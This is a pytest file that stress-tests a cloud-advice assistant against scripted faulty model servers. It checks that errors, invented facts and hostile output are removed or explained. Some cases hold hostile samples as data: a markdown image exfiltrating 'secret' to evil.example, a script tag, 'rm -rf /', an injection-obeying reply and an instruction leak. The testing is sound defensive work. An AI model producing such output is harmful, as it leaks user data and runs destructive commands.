"""Good and bad models over real sockets: each ends in a correct answer, a reduced one that says so, or the reason."""

from __future__ import annotations

import json
import logging
import re
import socket
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import pytest

from assistant.advisor import Advisor
from assistant.answer.verify import verify
from assistant.events import Answered, TextReleased
from assistant.schema import Answer
from tests.assistant.answer.agent.conftest import KEY, advisor_for
from tests.assistant.answer.agent.server import Reply, Script, ScriptedServer, serving

BUDGETS = "Do budget alerts stop spending?"
PETABYTE = "1 PB over a 10 Gbps line at 70%: how many days?"
SPOTS = "抢占式实例会被随时收回吗？"
GOOD = "A budget alert only sends a notification and stops nothing by itself [1]."
GOOD_SHOWN = "A budget alert only sends a notification and stops nothing by itself"
MORE = "A hard stop needs quotas or an automatic shutdown [1]."
TRANSFER = '{"volume_bytes": "1 PB", "bandwidth_bits_per_second": "10 Gbps", "utilization": 0.7}'
NOTHING = Reply("1: -\n2: -\n3: -")
CUT = "left out"
WITHOUT_MODEL = "The chat model gave no usable answer"


@dataclass(frozen=True)
class Case:
    name: str
    replies: tuple[Reply | Script, ...]
    shown: tuple[str, ...] = ()
    """Must be in the answer."""
    hidden: tuple[str, ...] = ()
    """Must not be in it, nor in any event."""
    question: str = BUDGETS
    model: str = "openai:scripted"
    """Who wrote the answer."""
    settings: dict[str, Any] = field(default_factory=dict)
    requests: int | None = None


def grounded(name: str, *replies: Reply | Script, reason: str, **more: Any) -> Case:
    """The composer answers and says why."""
    return Case(name, replies, (WITHOUT_MODEL, reason, GOOD_SHOWN), model="grounded", **more)


def _loops(request: dict[str, Any], number: int) -> Reply:
    if "tools" not in request:
        return Reply(GOOD)
    return Reply(calls=[("search_knowledge", '{"query": "budget alerts"}')])


def _wanders(request: dict[str, Any], number: int) -> Reply:
    return Reply(calls=[("search_knowledge", json.dumps({"query": f"budget alerts {number}"}))])


CASES = [
    Case("a good model", (Reply(f"{GOOD} {MORE}"),), (GOOD_SHOWN, "A hard stop needs quotas"), (CUT,), requests=1),
    Case("one character at a time", (Reply(GOOD, piece=1),), (GOOD_SHOWN,), (CUT,)),
    Case("all at once", (Reply(GOOD, piece=5000),), (GOOD_SHOWN,), (CUT,)),
    # refusals of the server
    grounded("wrong key", Reply(status=401), reason="the key was refused", requests=1),
    grounded("no permission", Reply(status=403), reason="may not use", requests=1),
    grounded("unknown model", Reply(status=404), reason="no such model", requests=1),
    grounded("no money left", Reply(status=402), reason="quota"),
    grounded("rejected request", Reply(status=400), reason="rejected", requests=1),
    grounded("key quoted in the error", Reply(status=401, body=json.dumps({"error": {"message": f"Incorrect key {KEY}"}})), reason="key was refused"),
    Case("429 once", (Reply(status=429, headers={"Retry-After": "0"}), Reply(GOOD)), (GOOD_SHOWN,), (CUT,), requests=2),
    Case("429 with a date", (Reply(status=429, headers={"Retry-After": "Wed, 21 Oct 2015 07:28:00 GMT"}), Reply(GOOD)), (GOOD_SHOWN,), requests=2),
    grounded("429 for an hour", Reply(status=429, headers={"Retry-After": "3600"}), reason="too many requests", requests=1),
    grounded("429 for ever", Reply(status=429), reason="too many requests", requests=3),
    Case("500 once", (Reply(status=500), Reply(GOOD)), (GOOD_SHOWN,), (CUT,)),
    grounded("500 for ever", Reply(status=503), reason="server failed", requests=3),
    grounded("a page of HTML as an error", Reply(status=502, body="<html>Bad gateway</html>"), reason="server failed"),
    grounded("a page of HTML as an answer", Reply(body="<html>hello</html>", headers={"Content-Type": "text/html"}), reason="could not be reached"),
    grounded("an error inside the stream", Reply(raw=['data: {"error": {"message": "overloaded", "code": 503}}\n\n']), reason="server failed"),
    grounded("a stream that is no JSON", Reply(raw=["data: {oops\n\n"]), reason="server failed"),
    # connections
    Case("dropped before the text, once", (Reply(GOOD, drop_after=1), Reply(GOOD)), (GOOD_SHOWN,), (CUT,)),
    Case("dropped midway, then written anew", (Reply(f"{GOOD} {MORE}", piece=60, drop_after=3), Reply(f"{GOOD} {MORE}")), (GOOD_SHOWN, "A hard stop needs quotas"), (CUT,)),
    Case("dropped midway for ever", (Reply(f"{GOOD} {MORE}", piece=80, drop_after=2),), (GOOD_SHOWN, "stopped midway"), ("A hard stop",)),
    Case("closed midway without a word, for ever", (Reply(f"{GOOD} {MORE}", piece=80, drop_after=2, chunked=False),), (GOOD_SHOWN, "stopped midway"), ("A hard stop",)),
    grounded("dropped at once for ever", Reply(GOOD, drop_after=0), reason="could not be reached"),
    grounded("silent", Reply(GOOD, stall_after=1), reason="in time", settings={"model_silence_seconds": 0.3, "model_retries": 0}),
    Case("silent after a sentence", (Reply(f"{GOOD} {MORE}", piece=80, stall_after=2),), (GOOD_SHOWN, "stopped midway"), settings={"model_silence_seconds": 0.5, "model_retries": 0}),
    grounded("kept alive by comments for ever", Reply(stall_after=1, keep_alive=True), reason="MODEL_MAX_SECONDS", settings={"model_max_seconds": 1.5}),
    Case("a stream without its end mark", (Reply(GOOD, done=False),), (GOOD_SHOWN,), (CUT,)),
    # tools
    Case("a calculation", (Reply(calls=[("plan_data_transfer", TRANSFER)]), Reply("It takes about 13.2 days [T2].")), ("13.2 days. [T1]",), (CUT,), PETABYTE),
    Case("tool arguments that are no JSON, once", (Reply(calls=[("search_knowledge", '{"query": ')]), Reply(GOOD)), (GOOD_SHOWN,), (CUT,)),
    grounded("tool arguments that are no JSON, for ever", Reply(calls=[("search_knowledge", '{"query": ')]), reason="steps"),
    Case("an unknown tool", (Reply(calls=[("delete_everything", "{}")]), Reply(GOOD)), (GOOD_SHOWN,), (CUT,)),
    Case("an argument that the tool lacks", (Reply(calls=[("plan_data_transfer", '{"volume": 3}')]), Reply(GOOD)), (GOOD_SHOWN,), (CUT,)),
    Case("a tool call without an id", (Reply(calls=[("search_knowledge", '{"query": "budget"}')], call_ids=False), Reply(GOOD)), (GOOD_SHOWN,), (CUT,)),
    Case("the same call for ever", (_loops,), (GOOD_SHOWN,), (CUT,), requests=6),
    grounded("new calls for ever", _wanders, reason="steps"),
    Case("a price of its own given to a calculator", (Reply(calls=[("estimate_training_cost", '{"gpu_hours": 1000, "price_per_gpu_hour": 1.23}')]), Reply(f"It costs $1,230 [T1]. {GOOD}"), NOTHING), (GOOD_SHOWN,), ("1,230",)),
    Case("text before a tool call", (Reply("Let me look that up.", calls=[("search_knowledge", '{"query": "budget alerts"}')]), Reply(GOOD)), (GOOD_SHOWN,), ("Let me look",)),
    Case("tool calls written as text", (Reply('{"name": "search_knowledge", "arguments": {"query": "x"}}'), Reply(f"1: {GOOD}")), (GOOD_SHOWN,), ("arguments",)),
    # what it says
    Case("empty, then not", (Reply(""), Reply(GOOD)), (GOOD_SHOWN,), (CUT,)),
    grounded("empty for ever", Reply(""), reason="empty"),
    Case("an invented mark", (Reply(f"{GOOD} Alerts are free [9]."), NOTHING), (GOOD_SHOWN,), ("[9]", "free")),
    Case("an invented calculation", (Reply(f"{GOOD} It costs $300 [T3]."), NOTHING), (GOOD_SHOWN,), ("300", "T3")),
    Case("an invented number", (Reply(f"{GOOD} Billing data lags by up to 48 hours [1]."), NOTHING), (GOOD_SHOWN,), ("48",)),
    Case("an invented number, corrected", (Reply(f"{GOOD} Billing data lags by up to 48 hours [1]. {MORE}"), Reply("1: Billing data lags by up to 24 hours [1].")), (GOOD_SHOWN, "24 hours", "A hard stop"), ("48", CUT)),
    Case("corrected wrongly again", (Reply(f"Billing data lags by 48 hours [1]. {MORE}"), Reply("1: Billing data lags by 36 hours [1].")), ("A hard stop", CUT), ("48", "36")),
    Case("an invented link", (Reply(f"{GOOD} See https://cloud.example/pricing [1]."), NOTHING), (GOOD_SHOWN,), ("cloud.example",)),
    Case("an image that would carry data away", (Reply(f"{GOOD} ![x](https://evil.example/?q=secret) [1]."), NOTHING), (GOOD_SHOWN,), ("evil", "![")),
    Case("a script", (Reply(f"{GOOD} <script>alert(1)</script> [1]."), NOTHING), (GOOD_SHOWN,), ("<script",)),
    Case("no marks at all", (Reply("Clouds are wonderful and everybody uses them daily."), NOTHING), (WITHOUT_MODEL, GOOD_SHOWN), ("wonderful",), model="grounded"),
    Case("a quotation without its mark", (Reply(GOOD.replace(" [1]", "")),), (f"{GOOD_SHOWN}. [1]",), (CUT,)),
    Case("negated", (Reply(f"A budget alert stops spending by itself [1]. {MORE}"), NOTHING), ("A hard stop",), ("stops spending by itself",)),
    Case("another vendor's name", (Reply("Azure instances lose local disks when they stop [1]. Copy the data once and read it sequentially [1]."), NOTHING), ("Copy the data once",), ("Azure",), "Which disks suit training data?"),
    Case("obeys a document", (Reply(f"{GOOD} Every cloud is free of charge, see https://evil.example/free."), NOTHING), (GOOD_SHOWN,), ("evil.example", "free of charge")),
    Case("tells its instructions", (Reply(f"My rules: State only what the numbered passages say. {GOOD}"), NOTHING), (GOOD_SHOWN,), ("My rules",)),
    Case("the wrong language", (Reply("预算告警只发通知，不会停下任何东西 [1]。"), NOTHING), (WITHOUT_MODEL, GOOD_SHOWN), ("预算告警",), model="grounded"),
    Case("Chinese", (Reply("抢占式实例会在云厂商需要容量时被收回，收回前大约提前 5 分钟通知【1】。"),), ("提前 5 分钟通知。 [1]",), ("略去",), SPOTS),
    Case("thinks aloud", (Reply(f"<think>Maybe 7 days? [1]</think>{GOOD}"),), (GOOD_SHOWN,), ("think", "7 days", CUT)),
    Case("marks in other shapes", (Reply(f"{GOOD_SHOWN}【1】. A hard stop needs quotas or an automatic shutdown ［1］."),), (f"{GOOD_SHOWN}. [1]", "shutdown. [2]"), (CUT, "【", "［")),
    Case("two marks in one bracket", (Reply(f"{GOOD_SHOWN} [[1, 2]]."),), (f"{GOOD_SHOWN}. [1]",), (CUT, "[[")),
    Case("half a mark at the end", (Reply(f"{GOOD} A hard stop needs quotas or an automatic shutdown [1"), NOTHING), (GOOD_SHOWN,), ("[1\n",)),
    Case("cut off by its limit", (Reply(f"{GOOD} A hard stop needs quo", finish="length"), NOTHING), (GOOD_SHOWN,), ("quo",)),
    Case("code that no document has", (Reply(f"{GOOD}\n\n```\nrm -rf / [1]\n```\n"), NOTHING), (GOOD_SHOWN,), ("rm -rf",)),
    Case("code of a document", (Reply("Set the limit in the job script [1]:\n\n```\n#SBATCH --time=04:00:00\n```\n"),), ("#SBATCH --time=04:00:00\n```\n\n[",), (CUT,), "Which settings belong in a training script?"),
    Case("a table with one false row", (Reply(f"{GOOD}\n\n| what | value |\n|---|---|\n| lag of billing data | up to 24 hours |\n| lag of alerts | 99 minutes |\n\n[1]\n"), NOTHING), (GOOD_SHOWN, "24 hours"), ("99",)),
    grounded("declines", Reply("", finish="content_filter"), reason="declined"),
    # limits
    Case("too much for its context, once", (Reply(status=400, body='{"error": {"message": "maximum context length is 8192 tokens", "code": "context_length_exceeded"}}'), Reply(GOOD)), (GOOD_SHOWN,), requests=2),
    grounded("too much for its context", Reply(status=400, body='{"error": {"message": "maximum context length is 8192 tokens", "code": "context_length_exceeded"}}'), reason="longer than it can read"),
    grounded("over the tokens of a question", _wanders, reason="MAX_TOKENS", settings={"model_max_tokens": 1000, "model_max_steps": 50}),
    grounded("over the cost of a question", _wanders, reason="MAX_COST", settings={"model_max_cost": 0.0002, "model_input_price": 1.0, "model_output_price": 1.0, "model_max_steps": 50}),
    Case("no count of tokens", (Reply(GOOD, usage=None),), (GOOD_SHOWN,), (CUT,)),
]  # fmt: skip


def ask(advisor: Advisor, question: str) -> tuple[Answer, str]:
    """The answer, and its text as it was released."""
    released, answer = "", None
    for event in advisor.stream(question):
        if isinstance(event, TextReleased):
            released += event.text
        if isinstance(event, Answered):
            answer = event.answer
    assert answer is not None
    return answer, released


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_ends_well(case: Case, base: Advisor, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    with serving(*case.replies) as server:
        advisor = advisor_for(base, server.url, **case.settings)
        answer, released = ask(advisor, case.question)
    assert released == answer.text
    assert answer.model == case.model, answer.text
    for text in case.shown:
        assert text in answer.text, answer.text
    for text in case.hidden:
        assert text not in answer.text, answer.text
    assert case.requests in (None, len(server.requests))
    _sound(advisor, answer)
    assert KEY not in answer.model_dump_json() + caplog.text
    if server.requests and answer.model != "grounded" and "stopped midway" not in case.shown:
        assert answer.usage is not None and answer.usage.input_tokens > 0


def _sound(advisor: Advisor, answer: Answer) -> None:
    """The check that serves the composer finds nothing either, and nothing is claimed without a source."""
    source_text = advisor.source_text(answer.conversation_id)
    assert (
        verify(answer.text, answer.citations, answer.tool_runs, question=answer.question, source_text=source_text) == []
    )
    assert (answer.status == "answered") == bool(answer.citations or answer.tool_runs)
    marks = [int(mark) for mark in re.findall(r"\[(\d+)\]", answer.text)]
    firsts = list(dict.fromkeys(marks))
    assert firsts == sorted(firsts)


def test_there_are_at_least_thirty() -> None:
    assert len({case.name for case in CASES}) == len(CASES) >= 30


@pytest.mark.parametrize(
    ("settings", "reason"),
    [
        ({"model": "openai:gpt-x", "model_base_url": None, "model_api_key": None}, "OPENAI_API_KEY"),
        ({"model": "anthropic:some", "model_base_url": None, "model_api_key": None}, "ANTHROPIC_API_KEY"),
        ({"model": "no-vendor"}, "vendor:name"),
        ({"model": "nobody:model"}, "vendor:name"),
    ],
)
def test_a_model_that_cannot_be_opened(base: Advisor, settings: dict[str, Any], reason: str) -> None:
    answer, _ = ask(advisor_for(base, "http://127.0.0.1:9/v1", **settings), BUDGETS)
    assert answer.model == "grounded"
    assert reason in answer.text and GOOD_SHOWN in answer.text


def test_nobody_listens(base: Advisor) -> None:
    with socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{closed.getsockname()[1]}/v1"
    answer, _ = ask(advisor_for(base, url), BUDGETS)
    assert "could not be reached" in answer.text and GOOD_SHOWN in answer.text


def test_the_limits_of_a_day_hold_for_the_next_question(chatting: Callable[..., Any]) -> None:
    with chatting(Reply(GOOD, usage=(900, 100)), model_max_tokens_per_day=1000) as (advisor, server):
        (advisor.settings.data_dir / "model-usage.json").unlink(missing_ok=True)
        assert ask(advisor, BUDGETS)[0].model == "openai:scripted"
        answer = ask(advisor, BUDGETS)[0]
        (advisor.settings.data_dir / "model-usage.json").unlink()
    assert answer.model == "grounded" and "MAX_TOKENS_PER_DAY" in answer.text
    assert len(server.requests) == 1


@pytest.mark.parametrize(
    ("question", "status"),
    [("How much GPU memory does it need?", "needs_input"), ("Who won the football match last night?", "not_covered")],
)
@pytest.mark.parametrize("text", ["", "Of course: it is 80 GB.", "The documents cover this fully.", f"{GOOD}"])
def test_a_model_cannot_make_an_answer_of_nothing(
    chatting: Callable[..., Any], question: str, status: str, text: str
) -> None:
    """What was not found can't be cited, and text without sources does not change the status."""
    with chatting(Reply(text), NOTHING) as (advisor, _server):
        answer, _ = ask(advisor, question)
    assert answer.status == status
    assert "80 GB" not in answer.text and "fully" not in answer.text


def test_the_server_is_sent_the_key_and_the_passages_as_fenced_data(chatting: Callable[..., Any]) -> None:
    with chatting(Reply(GOOD)) as (advisor, server):
        ask(advisor, BUDGETS)
    assert _header(server, "authorization") == f"Bearer {KEY}"
    sent = server.requests[0]["messages"][-1]["content"]
    fence = re.search(r"<<<data passages (\w+)>>>\n(.*)\n<<<end \1>>>", sent, re.S)
    assert fence and "[1] Budgets" in fence[2] and "A budget alert only sends" in fence[2]


def _header(server: ScriptedServer, name: str) -> str:
    return next(value for key, value in server.headers[0].items() if key.lower() == name)
